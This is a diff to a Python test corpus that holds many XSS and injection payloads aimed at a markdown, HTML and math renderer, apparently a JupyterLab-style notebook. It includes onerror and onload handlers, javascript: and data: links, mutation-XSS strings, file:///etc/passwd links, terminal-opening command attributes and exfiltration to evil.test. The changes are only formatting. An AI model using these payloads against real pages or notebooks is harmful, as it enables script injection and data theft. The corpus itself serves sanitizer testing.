@@ -4,6 +4,8 @@
 whatever is fetched goes to `evil.test`.
 """
 
+# ruff: noqa: E501 - a text is one line
+
 from __future__ import annotations
 
 __all__ = ["CORPUS"]
@@ -41,10 +43,14 @@ _TAGS = [
     f"<math><mtext><img src=x onerror={_RUN}></mtext></math>",
     f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x</maction></math>",
     f"<math><mi//xlink:href='javascript:{_RUN}'>x</math>",
-    "<form><math><mtext></form><form><mglyph><style></math>"
-    f"<img src=x onerror={_RUN}>",
-    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
-    f"onerror={_RUN}&gt;'>",
+    (
+        "<form><math><mtext></form><form><mglyph><style></math>"
+        f"<img src=x onerror={_RUN}>"
+    ),
+    (
+        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x "
+        f"onerror={_RUN}&gt;'>"
+    ),
     f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
     f"<body onload={_RUN}>",
     f"<body background=https://evil.test/x.png onpageshow={_RUN}>",
@@ -90,8 +96,10 @@ _TAGS = [
     f"<?xml version='1.0'?><script>{_RUN}</script>",
     f"<x onclick={_RUN} contenteditable autofocus onfocus={_RUN}>x</x>",
     "<div id=parllama class=jp-Notebook data-commandlinker-command=terminal:create-new>x",
-    '<button data-commandlinker-command="terminal:create-new" '
-    "data-commandlinker-args='{}'>x</button>",
+    (
+        '<button data-commandlinker-command="terminal:create-new" '
+        "data-commandlinker-args='{}'>x</button>"
+    ),
     "<img name=getElementById><img id=body><form id=cookie>",
 ]
 
@@ -108,7 +116,7 @@ _LINKS = [
     f"[click](javascript://%0a{_RUN})",
     f"[click](vbscript:{_RUN})",
     f"[click](data:text/html,<script>{_RUN}</script>)",
-    f"[click](data:text/html;base64,PHNjcmlwdD4=)",
+    "[click](data:text/html;base64,PHNjcmlwdD4=)",
     "[click](file:///etc/passwd)",
     "[click](//evil.test/)",
     "[click](/lab/api/kernels)",
@@ -133,10 +141,10 @@ _IMAGES = [
     "![x][p]\n\n[p]: https://evil.test/pixel.png",
     "[p]: https://evil.test/pixel.png\n\n![p]",
     f"![x](javascript:{_RUN})",
-    f"![x](https://evil.test/x.png\"onerror=\"{_RUN})",
+    f'![x](https://evil.test/x.png"onerror="{_RUN})',
     f'![x" onerror="{_RUN}](data:image/png;base64,AAAA)',
-    f'![x](data:image/png;base64,AAAA "t\' onerror=\'{_RUN}")',
-    f"![x](data:image/png;base64,AAAA\"onerror=\"{_RUN})",
+    f"![x](data:image/png;base64,AAAA \"t' onerror='{_RUN}\")",
+    f'![x](data:image/png;base64,AAAA"onerror="{_RUN})',
     "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
     f"![x](data:image/svg+xml,<svg onload={_RUN}>)",
     "![x](blob:https://evil.test/x)",
@@ -149,7 +157,7 @@ _CODE = [
     f"```\n</code></pre><script>{_RUN}</script>\n```",
     f"```html\n<script>{_RUN}</script>\n```",
     f"```html\n</span><img src=x onerror={_RUN}>\n```",
-    f"```\"><img/src=x/onerror={_RUN}>\nx\n```",
+    f'```"><img/src=x/onerror={_RUN}>\nx\n```',
     f"```x onclick={_RUN}\nx\n```",
     f"~~~python'\"><svg/onload={_RUN}>\nx\n~~~",
     f"    <script>{_RUN}</script>",
@@ -162,7 +170,7 @@ _MATH = [
     f"$\\url{{javascript:{_RUN}}}$",
     "$\\includegraphics{https://evil.test/x.png}$",
     f"$\\htmlData{{onclick={_RUN}}}{{x}}$",
-    f"$\\htmlStyle{{background:url(https://evil.test/x)}}{{x}}$",
+    "$\\htmlStyle{background:url(https://evil.test/x)}{x}$",
     "$\\htmlId{cookie}{x} \\htmlClass{jp-Notebook}{y}$",
     f"$\\text{{<img src=x onerror={_RUN}>}}$",
     f"$$\n</annotation></semantics></math><img src=x onerror={_RUN}>\n$$",
